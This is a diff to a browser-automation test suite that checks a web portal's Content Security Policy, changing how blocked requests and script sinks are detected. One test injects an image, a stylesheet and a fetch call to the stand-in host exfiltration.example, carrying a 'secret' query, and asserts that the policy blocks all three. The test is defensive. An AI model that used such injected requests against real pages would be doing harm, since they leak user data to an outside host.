@@ -97,7 +97,7 @@ async def test_text_becomes_markup_nowhere_else(browser, portal, path):
     await page.wait_for_load_state("networkidle")
     passed = []
     for name, script in SINKS.items():
-        if await page.evaluate("text => { try { (0, window.run)(text); return true } catch { return false } }", script):
+        if await page.evaluate(LATER, script):
             passed.append(name)
     assert passed == []
     await context.close()
@@ -107,10 +107,12 @@ async def test_what_a_page_would_fetch_from_elsewhere_is_not_fetched_and_is_repo
     context = await _signed_in(browser, portal)
     page = await context.new_page()
     await page.goto(portal.address + "/tools")
-    asked = []
-    page.on("request", lambda request: asked.append(request.url))
-    before = len(reports(portal))
-    await page.evaluate("""() => {
+    blocked = await page.evaluate("""() => new Promise(done => {
+        const told = [];
+        document.addEventListener("securitypolicyviolation", event => {
+            told.push(event.effectiveDirective);
+            if (told.length === 3) done(told.sort());
+        });
         const image = document.createElement("img");
         image.src = "http://exfiltration.example/?q=secret";
         document.body.append(image);
@@ -119,16 +121,10 @@ async def test_what_a_page_would_fetch_from_elsewhere_is_not_fetched_and_is_repo
         style.href = "http://exfiltration.example/a.css";
         document.head.append(style);
         fetch("http://exfiltration.example/").catch(() => {});
-    }""")
-    for _ in range(50):
-        if len(reports(portal)) >= before + 3:
-            break
-        await page.wait_for_timeout(100)
-    told = reports(portal)[before:]
-    assert {re.search(r"effective-directive ([\w-]+)", line).group(1) for line in told} == {
-        "img-src", "style-src-elem", "connect-src",
-    }  # fmt: skip
-    assert not any("secret" in line for line in told)
+    })""")
+    assert blocked == ["connect-src", "img-src", "style-src-elem"]
+    await page.wait_for_timeout(500)
+    assert not any("q=secret" in line for line in reports(portal))
     await context.close()
 
 
@@ -147,6 +143,10 @@ async def _signed_in(browser, portal):
     return context
 
 
+# Not in the call itself, in which a browser that is driven from outside lets more pass.
+LATER = """text => new Promise(done => setTimeout(() => {
+    try { window.run(text); done(true) } catch { done(false) }
+}))"""
 # Runs a line of JavaScript without `eval`, which the policy forbids too: one function for each of the sinks.
 RUN = (
     "window.run = text => ({"
